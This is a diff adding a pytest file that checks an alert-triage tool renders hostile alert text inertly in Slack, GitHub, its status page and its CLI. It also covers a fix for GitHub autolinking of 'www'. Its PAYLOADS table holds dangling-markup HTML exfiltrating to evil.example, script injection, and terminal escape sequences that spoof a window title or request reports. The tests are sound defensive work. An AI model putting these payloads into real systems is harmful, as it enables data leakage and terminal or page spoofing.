@@ -1,0 +1,182 @@
+"""Round 5 of hostile alert text on every surface (helper 504): one more table of payloads, each
+a class of attack the earlier tables (`test_escape_every_surface.PAYLOADS`,
+`test_surfaces_round4_485.PAYLOADS`) lack, put in every field an alert and its ticket have and
+shown through the real sinks and servers (Slack, GitHub, the status page, the operator
+commands), checked by the earlier files' rules for each surface.
+
+Beside the table, what it found, each fixed:
+
+- a title ending in `www` was a link on GitHub in the resolve and re-fire comments, which write
+  `. Closing.` after it: GitHub links `www.` followed by a space to `http://www` (cmark-gfm's
+  extended autolink), and the zero-width space that keeps `www.` from linking was put only
+  where the alert's own text held the dot (`markdown._unlinked`)."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+from pathlib import Path
+
+import pytest
+
+from github_stub import GitHubServer
+from ingest_harness import loopback_client
+from test_escape_every_surface import (
+    BOT_TOKEN,
+    REPO,
+    _seed,
+    _seed_configured,
+    assert_html_inert,
+    assert_labels_taken,
+    assert_markdown_inert,
+    assert_slack_inert,
+    assert_title_inert,
+    effect,
+    github,
+    hook,
+    store,
+)
+from test_operator_hostile import BEARER, serving
+from test_slack_sink import Hook
+from test_slack_sink import open_sink as open_slack
+from triage.cli import main
+from triage.incidents.sqlite import SQLiteStore
+from triage.models import EffectKind
+from triage.settings import Settings
+from triage.sinks import markdown
+from triage.sinks.github import GitHubSink
+from triage.sinks.github.text import close_comment, reopen_comment
+
+__all__ = ["github", "hook", "store"]
+
+#: Hostile alert text, one class of attack each, none of it in the earlier tables.
+PAYLOADS: dict[str, str] = {
+    # HTML a browser would read past its end: an attribute left open swallows the page after
+    # it into a URL (dangling markup), and elements that navigate, frame or re-base the page.
+    "dangling_markup": "<img src='https://evil.example/?leak= <iframe srcdoc=\"<script>"
+    "window.__ran=true</script>\"> <meta http-equiv=refresh content='0;url=https://evil.example'>"
+    " <base href=https://evil.example/> <form action=https://evil.example/><button>go",
+    # Terminal strings beyond CSI and OSC: DCS (sixel), APC (kitty graphics), PM, SOS, a
+    # report request (the terminal types its answer), a window title, DEC's screen test.
+    "terminal_strings": "\x1bPq#0;2;0;0;0#0~~\x1b\\ \x1b_Gf=100,a=T;AAAA\x1b\\ \x1b^pm\x1b\\"
+    " \x1bXsos\x1b\\ \x1b[6n \x1b[21t \x1b]0;root@prod\x07 \x1b#8 \x1bc",
+    # GitHub's rendered blocks: diagrams and maps that fetch, media, alerts, footnotes.
+    "github_blocks": "```mermaid\ngraph TD; A-->B\n```\n```geojson\n{}\n```\n"
+    "<picture><source srcset=https://evil.example/x.png></picture>"
+    "<video src=https://evil.example/v.mp4>\n> [!WARNING]\n> x\n[^1]\n\n[^1]: note",
+    # Markup in look-alike brackets (full-width, small form variants) and emoji codes.
+    "look_alike_brackets": "\uff1cscript\uff1ewindow.__ran=true\uff1c/script\uff1e "
+    "\ufe64b\ufe65 :skull_and_crossbones: :white_check_mark: Resolved",
+}
+
+payloads = pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
+
+
+@payloads
+async def test_slack_posts_are_inert(hook: Hook, payload: str) -> None:
+    """A new incident's message and its follow-ups hold nothing of the alert's Slack acts on."""
+    async with open_slack(hook.url()) as sink:
+        assert (await sink.apply(effect(payload))).ref == "posted"
+        await sink.apply(effect(payload, EffectKind.REOPEN, ref="posted"))
+        await sink.apply(effect(payload, EffectKind.CLOSE, ref="posted"))
+    for message in hook.bodies():
+        assert_slack_inert(message)
+
+
+@payloads
+async def test_github_issues_are_inert(github: GitHubServer, payload: str) -> None:
+    """The issue (title, body, labels) and its comments (re-fire, resolve) are inert GitHub
+    Markdown."""
+    settings = Settings(github_api_url=github.url, github_repository=REPO, github_token=BOT_TOKEN)
+    sink = GitHubSink(settings)
+    try:
+        ref = (await sink.apply(effect(payload))).ref
+        assert ref is not None
+        await sink.apply(effect(payload, EffectKind.CLOSE, ref=ref))
+        await sink.apply(effect(payload, EffectKind.REOPEN, ref=ref))
+    finally:
+        await sink.aclose()
+    [issue] = github.issues(REPO)
+    assert_title_inert(issue["title"])
+    assert_markdown_inert(issue["body"])
+    assert_labels_taken([label["name"] for label in issue["labels"]])
+    assert len(issue["comment_bodies"]) >= 2
+    for comment in issue["comment_bodies"]:
+        assert_markdown_inert(comment)
+
+
+@payloads
+async def test_the_status_page_is_inert(store: SQLiteStore, payload: str) -> None:
+    """The status page and the incident's page hold only triage's markup."""
+    fingerprint = await _seed(store, payload)
+    async with serving(store) as server, loopback_client(server.port) as http:
+        pages = [
+            await http.get("/", headers=BEARER),
+            await http.get(f"/incidents/{fingerprint}", headers=BEARER),
+        ]
+    for page in pages:
+        assert page.status_code == 200
+        assert_html_inert(page.text)
+
+
+@payloads
+def test_operator_commands_print_only_printable_lines(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    payload: str,
+) -> None:
+    """`incidents list|show` (JSON and text) and `silence list` write only printable lines:
+    no ESC of a terminal string reaches the terminal."""
+    monkeypatch.setenv("TRIAGE_STORE_URL", f"sqlite:///{tmp_path / 'triage.db'}")
+    monkeypatch.setenv("TRIAGE_LOG_LEVEL", "warning")
+    fingerprint = asyncio.run(_seed_configured(payload))
+    commands = [
+        ["incidents", "list", "--state", "all"],
+        ["incidents", "list", "--state", "all", "--output", "text"],
+        ["incidents", "show", fingerprint],
+        ["incidents", "show", fingerprint, "--output", "text"],
+        ["silence", "list"],
+    ]
+    for args in commands:
+        assert main(args) == 0, args
+        out, err = capsys.readouterr()
+        assert out.strip(), args
+        for line in (out + err).splitlines():
+            assert line.isprintable(), (args, line[:200])
+
+
+# --- GitHub: triage's own punctuation after alert text -------------------------------------
+
+#: `www.` as GitHub links it: a word `www` right before a dot (cmark-gfm's extended autolink
+#: takes `www.` followed by a space or a closing bracket as a link to `http://www`).
+_WWW_DOT = re.compile(r"(?<![A-Za-z0-9])www\.")
+
+
+@pytest.mark.parametrize("title", ["mirror down at www", "WWW", "see www", "x (www"])
+def test_a_title_ending_in_www_is_no_link_in_the_resolve_and_refire_comments(title: str) -> None:
+    """A title ending in `www` is followed by triage's `. Closing.` (`. Reopening.`) in the
+    resolve and re-fire comments: `www` and that dot would be a link to `http://www`, so the
+    zero-width space goes after the alert's `www` (`inline`), as it does before its own dot."""
+    for comment in (
+        close_comment(effect(title, EffectKind.CLOSE, ref="1")),
+        reopen_comment(effect(title, EffectKind.REOPEN, ref="1")),
+    ):
+        assert _WWW_DOT.search(comment.replace("&#8203;", "\u200b")) is None, comment
+        assert "www&#8203;" in comment.lower(), comment
+
+
+@pytest.mark.parametrize("text", ["www", "at www", "www www"])
+def test_inline_text_ending_in_www_links_nothing_whatever_follows(text: str) -> None:
+    """`inline` text ending in `www` links nothing however triage goes on after it (a dot, a
+    bracket): the zero-width space stands after every `www` word, at its end too."""
+    shown = markdown.inline(text)
+    for after in (". Closing.", ".)", "."):
+        assert _WWW_DOT.search((shown + after).replace("&#8203;", "\u200b")) is None, shown
+
+
+@pytest.mark.parametrize("text", ["www2 is fine", "awww.", "the www-data user", "swwwx"])
+def test_a_www_that_is_no_autolink_is_left_as_written(text: str) -> None:
+    """A `www` inside a longer word (`awww`, `www2`, `www-data`) is written as it is: no
+    zero-width space where GitHub would link nothing (ordinary text is never over-escaped)."""
+    assert "&#8203;" not in markdown.inline(text)
